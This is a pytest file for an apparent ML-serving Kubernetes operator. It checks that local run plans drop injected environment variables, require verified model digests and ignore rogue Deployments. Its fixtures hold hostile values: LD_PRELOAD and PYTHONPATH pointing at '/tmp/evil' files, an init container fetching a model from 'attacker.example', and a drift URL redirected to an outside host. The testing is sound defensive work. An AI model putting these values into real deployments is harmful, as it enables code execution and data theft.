"""`run-local` plans come from the endpoint spec and verified Models only (issue 9 B10).

A Deployment carrying the endpoint's label used to be trusted as is: its artifact (with or
without a digest) and its whole env (LD_PRELOAD, PYTHONPATH) went into local processes that
unpickle models. Now the plan is rebuilt by the builders, digests are required and only
allow-listed env vars pass.
"""

from __future__ import annotations

import base64
import copy
import dataclasses
from typing import Any

import pytest

from mlkube.api.endpoint import OnlineEndpointSpec
from mlkube.builders.endpoint import build_endpoint_children
from mlkube.builders.model_facts import ModelFacts
from mlkube.builders.names import EndpointRef, deployment_name, keys_secret_name
from mlkube.builders.operator_config import OperatorConfig
from mlkube.contract import API_VERSION
from mlkube.localrun.plan import PlanError, local_server_env, plan_local
from mlkube.localrun.source import plan_from_cluster

DIGEST = "sha256:" + "a" * 64
SPEC = {
    "deployments": [
        {"name": "blue", "model": "credit-risk-v3",
         "env": [{"name": "LD_PRELOAD", "value": "/tmp/evil.so"},
                 {"name": "PYTHONPATH", "value": "/tmp/evil"},
                 {"name": "OMP_NUM_THREADS", "value": "2"},
                 {"name": "MLKUBE_WORKERS", "value": "1"}]},
    ],
    "traffic": {"blue": 100},
}  # fmt: skip


def children() -> list[dict[str, Any]]:
    model = ModelFacts(name="credit-risk-v3", model_name="credit-risk", version="3",
                       framework="onnx", uri="file:///models/3", digest=DIGEST)  # fmt: skip
    spec = OnlineEndpointSpec.model_validate(SPEC)
    return build_endpoint_children(EndpointRef("credit", "ns", "uid-1"), spec,
                                   {model.name: model}, OperatorConfig(), keys=[])  # fmt: skip


def test_only_allow_listed_env_reaches_local_processes() -> None:
    (server,) = plan_local(children()).servers
    assert "LD_PRELOAD" not in server.env and "PYTHONPATH" not in server.env
    assert server.env["OMP_NUM_THREADS"] == "2"
    assert server.env["MLKUBE_WORKERS"] == "1"
    assert server.env["MLKUBE_MODEL_NAME"] == "credit-risk"
    assert server.dropped_env == ("LD_PRELOAD", "PYTHONPATH")


def test_request_samples_never_leave_for_a_url_the_spec_names() -> None:
    (server,) = plan_local(children()).servers
    spiked = dataclasses.replace(server, env={**server.env, "MLKUBE_DRIFT_URL": "http://x.example"})
    env = local_server_env(spiked, model_dir="/m", http_port=1, metrics_port=2)
    assert "MLKUBE_DRIFT_URL" not in env
    env = local_server_env(spiked, model_dir="/m", http_port=1, metrics_port=2, drift_port=3)
    assert env["MLKUBE_DRIFT_URL"] == "http://127.0.0.1:3"


def test_an_artifact_without_a_digest_is_refused() -> None:
    objs = copy.deepcopy(children())
    for obj in objs:
        if obj["kind"] == "Deployment":
            for init in obj["spec"]["template"]["spec"].get("initContainers") or []:
                if init["name"] == "storage-initializer":
                    args = init["args"]
                    del args[args.index("--digest") : args.index("--digest") + 2]
    with pytest.raises(PlanError, match="no verified digest"):
        plan_local(objs)


class FakeReader:
    """Serves the endpoint, its Models and a rogue labelled Deployment; records reads."""

    def __init__(self, model_status: dict[str, Any]) -> None:
        rogue = next(c for c in children() if c["kind"] == "Deployment"
                     and c["metadata"]["name"] == deployment_name("credit", "blue"))  # fmt: skip
        rogue["spec"]["template"]["spec"]["initContainers"][0]["args"] = [
            "--uri", "https://attacker.example/model", "--dest", "/mnt/models"]  # fmt: skip
        self.objects: dict[tuple[str, str], dict[str, Any]] = {
            ("OnlineEndpoint", "credit"): {
                "apiVersion": API_VERSION, "kind": "OnlineEndpoint",
                "metadata": {"name": "credit", "namespace": "ns", "uid": "uid-1"},
                "spec": SPEC,
            },
            ("Model", "credit-risk-v3"): {
                "metadata": {"name": "credit-risk-v3", "generation": 1},
                "spec": {"modelName": "credit-risk", "version": "3", "framework": "onnx",
                         "artifact": {"uri": "file:///models/3"}},
                "status": model_status,
            },
            ("Deployment", deployment_name("credit", "blue")): rogue,
        }  # fmt: skip
        self.reads: list[tuple[str, str]] = []

    def get(
        self, api_version: str, kind: str, name: str, namespace: str | None = None
    ) -> dict[str, Any] | None:
        self.reads.append((kind, name))
        return copy.deepcopy(self.objects.get((kind, name)))


READY = {
    "phase": "Ready", "observedGeneration": 1, "artifact": {"digest": DIGEST},
    "conditions": [{"type": "Ready", "status": "True"}],
}  # fmt: skip


def test_the_plan_is_rebuilt_from_the_spec_not_from_live_deployments() -> None:
    reader = FakeReader(READY)
    plan = plan_from_cluster(reader, "ns", "credit")
    (server,) = plan.servers
    assert server.artifact_uri == "file:///models/3"
    assert server.digest == DIGEST
    assert "LD_PRELOAD" not in server.env
    assert not [kind for kind, _ in reader.reads if kind == "Deployment"]
    assert set(plan.router_config["deployments"]) == {"blue"}


def test_a_model_without_a_verified_digest_is_not_run() -> None:
    unverified = {**READY, "artifact": {}}
    with pytest.raises(PlanError, match=r"not Ready.*only verified Models"):
        plan_from_cluster(FakeReader(unverified), "ns", "credit")


def test_keys_come_only_from_the_endpoints_own_secret() -> None:
    reader = FakeReader(READY)
    reader.objects[("OnlineEndpoint", "credit")]["spec"] = {**SPEC, "auth": {"mode": "key"}}
    secret = {"metadata": {"name": keys_secret_name("credit"), "ownerReferences": [
        {"kind": "OnlineEndpoint", "name": "credit", "uid": "uid-1", "controller": True}]},
        "data": {"keys": base64.b64encode(b"k1\n").decode()}}  # fmt: skip
    reader.objects[("Secret", keys_secret_name("credit"))] = secret
    assert plan_from_cluster(reader, "ns", "credit").keys == ["k1"]
    secret["metadata"]["ownerReferences"] = []  # a user's Secret that happens to have the name
    with pytest.raises(PlanError, match="not this endpoint's keys Secret"):
        plan_from_cluster(reader, "ns", "credit")
